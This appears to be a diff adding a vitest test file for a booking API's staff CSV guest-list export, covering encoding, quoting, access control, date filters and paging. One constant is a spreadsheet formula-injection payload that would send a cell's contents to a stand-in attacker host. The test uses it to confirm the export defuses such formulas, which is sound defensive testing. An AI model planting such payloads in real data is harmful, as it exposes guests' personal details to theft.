@@ -1,0 +1,214 @@
+import { parse } from 'csv-parse/sync'
+import { eq } from 'drizzle-orm'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { accounts, bookings, wallets } from '../../server/db/schema.ts'
+import { DEMO_DOOR, DEMO_STAFF } from '../../server/db/seed.ts'
+import { GUEST_PAGE_ROWS } from '../../server/events/guest-list.ts'
+import { bearer, dbCases, expectError, signIn, startApi, type TestApi } from '../support/api-app.ts'
+import { DAYS, debitWallet, poetry, rsvp, UNLIMITED } from '../support/bookings.ts'
+
+// An event's guest list as a manager downloads it (GET /staff/events/{id}/guests.csv): a file a
+// spreadsheet on a phone opens as written (UTF-8 with a byte order mark, RFC 4180), whose cells
+// never run as formulas, every confirmed guest once, a page of rows read at a time.
+
+const POETRY = '/api/staff/events/poetry-and-palm-wine/guests.csv'
+const WALK = '/api/staff/events/photo-walk-lagos-island/guests.csv'
+const MARKET = 'design-market'
+
+/** A mother and her son, each with a ticket (the server takes one ticket an address an event). */
+const FAMILY_EMAIL = 'the.adebayo-ogunlesi.family@yahoo.com'
+const SON_EMAIL = 'bayo.adebayo-ogunlesi@gmail.com'
+/** A comma and quotes in one name, as a guest typed it. */
+const BAYO = 'Adébáyọ̀ "Bayo" Ògúnlẹ́sì, Jr.'
+const MOTHER = 'Olúwafúnmiláyọ̀ Adébáyọ̀-Ògúnlẹ́sì'
+/** A name that a spreadsheet would run, typed into the booking form. */
+const FORMULA = '=HYPERLINK("https://evil.example/steal?c="&A2,"Click me")'
+
+const HEADER = [
+  'Day',
+  'Time',
+  'Name',
+  'E-mail',
+  'Phone',
+  'Party',
+  'Guests',
+  'Paid (NGN)',
+  'Paid with',
+  'Came in',
+  'Checked in at',
+]
+
+type Row = Record<string, string>
+
+describe.each(dbCases())('%s', (_name, kind, skip) => {
+  describe.skipIf(skip)("an event's guest list, downloaded", () => {
+    let api: TestApi
+    let manager: string
+
+    const download = (url: string, token = manager) =>
+      api.app.inject({ url, headers: bearer(token) })
+    const rowsOf = (body: string): Row[] =>
+      parse(body, { bom: true, columns: true, skip_empty_lines: true })
+
+    beforeAll(async () => {
+      api = await startApi(kind, { app: { rateLimit: UNLIMITED, visitorShare: 1 } })
+      manager = await signIn(api, DEMO_STAFF)
+      const guests = [
+        { Name: MOTHER, Email: FAMILY_EMAIL, Phone: '+234 803 555 0190' },
+        { Name: BAYO, Email: SON_EMAIL, Phone: '0803 555 0191' },
+        { Name: FORMULA, Email: 'tunde.bakare@example.com', Phone: '0809 555 0192' },
+      ]
+      for (const [i, guest] of guests.entries()) {
+        const response = await rsvp(api, poetry(guest), { address: `198.51.100.${40 + i}` })
+        expect(response.statusCode, response.body).toBe(201)
+      }
+      // Ada on the photo walk, from her wallet, answering its two questions.
+      const [wallet] = await api.db
+        .select({ id: wallets.id })
+        .from(wallets)
+        .innerJoin(accounts, eq(accounts.id, wallets.accountId))
+        .where(eq(accounts.email, 'ada@example.com'))
+      const walked = await debitWallet(
+        api,
+        wallet?.id ?? '',
+        {
+          debitAmount: 250_000,
+          narration: 'Photo Walk',
+          booking: {
+            Email: 'ada@example.com',
+            Name: 'Ada Okafor',
+            Phone: '+234 803 555 0101',
+            Event: 'photo-walk-lagos-island',
+            Type: 'event',
+            Venue: 'Meet at Tinubu Square',
+            Date: DAYS.photoWalk,
+            Amount: 250_000,
+            'Time Slot': '7:30am - 11am',
+            'Paid with': 'wallet',
+            'Payment Reference': null,
+            metadata: JSON.stringify({
+              'Instagram handle': '@ada.builds',
+              'Camera type': 'Fujifilm X100V',
+            }),
+          },
+        },
+        { token: await signIn(api, 'ada@example.com') },
+      )
+      expect(walked.statusCode, walked.body).toBe(201)
+    })
+    afterAll(() => api?.close())
+
+    it('is a CSV download a phone opens as written: UTF-8 with a BOM, every cell quoted, CRLF', async () => {
+      const response = await download(POETRY)
+      expect(response.statusCode, response.body).toBe(200)
+      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8')
+      expect(response.headers['content-disposition']).toBe(
+        'attachment; filename="poetry-and-palm-wine-guests.csv"',
+      )
+      expect(response.headers['cache-control']).toBe('no-store')
+      expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
+      const [first] = response.body.replace(/^\uFEFF/, '').split('\r\n')
+      expect(first).toBe(HEADER.map((cell) => `"${cell}"`).join(','))
+    })
+
+    it('keeps a name with a comma and quotes whole, and defuses one that starts a formula', async () => {
+      const rows = rowsOf((await download(POETRY)).body)
+      const names = rows.map((row) => row.Name)
+      expect(names).toContain(BAYO)
+      expect(names).toContain(MOTHER)
+      expect(names).toContain(`'${FORMULA}`)
+      expect(names.filter((name) => /^[=+\-@\t\r]/.test(name ?? ''))).toEqual([])
+      // A phone in the international way would start a formula too.
+      const mother = rows.find((row) => row.Name === MOTHER)
+      expect(mother).toMatchObject({
+        Day: DAYS.poetry,
+        Time: '4pm - 8pm',
+        'E-mail': FAMILY_EMAIL,
+        Phone: "'+234 803 555 0190",
+        Party: '1',
+        Guests: '',
+        'Paid (NGN)': '0.00',
+        'Paid with': 'Free',
+        'Came in': '0 of 1',
+        'Checked in at': '',
+      })
+      // Each guest once, the demo's and these three.
+      const emails = rows.map((row) => row['E-mail'])
+      expect(emails.filter((email) => email === FAMILY_EMAIL || email === SON_EMAIL)).toHaveLength(
+        2,
+      )
+      expect(new Set(emails).size).toBe(emails.length)
+    })
+
+    it("gives each of the event's questions a column, with each guest's answer", async () => {
+      const response = await download(WALK)
+      expect(response.statusCode, response.body).toBe(200)
+      const [header] = parse(response.body, { bom: true, to_line: 1 }) as string[][]
+      expect(header).toEqual([...HEADER, 'Instagram handle', 'Camera type'])
+      const ada = rowsOf(response.body).find((row) => row['E-mail'] === 'ada@example.com')
+      expect(ada).toMatchObject({
+        'Paid (NGN)': '2500.00',
+        'Paid with': 'Wallet',
+        'Instagram handle': "'@ada.builds",
+        'Camera type': 'Fujifilm X100V',
+      })
+    })
+
+    it("lists one day's guests with date, and says which days the event is on otherwise", async () => {
+      const response = await download(`${POETRY}?date=${DAYS.poetry}`)
+      expect(response.statusCode, response.body).toBe(200)
+      expect(response.headers['content-disposition']).toBe(
+        `attachment; filename="poetry-and-palm-wine-${DAYS.poetry}-guests.csv"`,
+      )
+      expect(rowsOf(response.body).every((row) => row.Day === DAYS.poetry)).toBe(true)
+      expectError(
+        await download(`${POETRY}?date=${DAYS.supper}`),
+        400,
+        `Poetry & Palm Wine is not on ${DAYS.supper}: choose one of its days, or none for all.`,
+      )
+      expect((await download(`${POETRY}?date=2026-02-30`)).statusCode).toBe(400)
+      expect((await download(`${POETRY}?date=tomorrow`)).statusCode).toBe(400)
+      expectError(
+        await download('/api/staff/events/no-such-event/guests.csv'),
+        404,
+        'No event has this id.',
+      )
+    })
+
+    it('is for managers: the door, a member and nobody signed in are refused', async () => {
+      const door = await download(POETRY, await signIn(api, DEMO_DOOR))
+      expect(door.statusCode).toBe(403)
+      expect(door.body).not.toContain(FAMILY_EMAIL)
+      const member = await download(POETRY, await signIn(api, 'ada@example.com'))
+      expect(member.statusCode).toBe(403)
+      expect((await api.app.inject({ url: POETRY })).statusCode).toBe(401)
+    })
+
+    it(`sends a list longer than a page (${GUEST_PAGE_ROWS} rows) whole: every guest once, in order, the cancelled left out`, async () => {
+      // A big day, set in the database: 2.4 pages of guests, a tenth of them cancelled.
+      const count = Math.round(GUEST_PAGE_ROWS * 2.4)
+      await api.db.insert(bookings).values(
+        Array.from({ length: count }, (_, i) => ({
+          email: `guest${i}@lagosdesignmarket.com.ng`,
+          name: `Guest ${String(i).padStart(5, '0')} Olúwaṣeun`,
+          phone: '0803 555 0100',
+          type: 'event' as const,
+          eventId: MARKET,
+          venue: 'Courtyard',
+          date: '2026-12-08',
+          paidWith: 'free' as const,
+          status: i % 10 === 0 ? ('cancelled' as const) : ('confirmed' as const),
+        })),
+      )
+      const response = await download(`/api/staff/events/${MARKET}/guests.csv`)
+      expect(response.statusCode, response.body).toBe(200)
+      const names = rowsOf(response.body)
+        .map((row) => row.Name ?? '')
+        .filter((name) => name.startsWith('Guest '))
+      const expected = Array.from({ length: count }, (_, i) => i)
+        .filter((i) => i % 10 !== 0)
+        .map((i) => `Guest ${String(i).padStart(5, '0')} Olúwaṣeun`)
+      expect(names).toEqual(expected)
+    })
+  })
+})
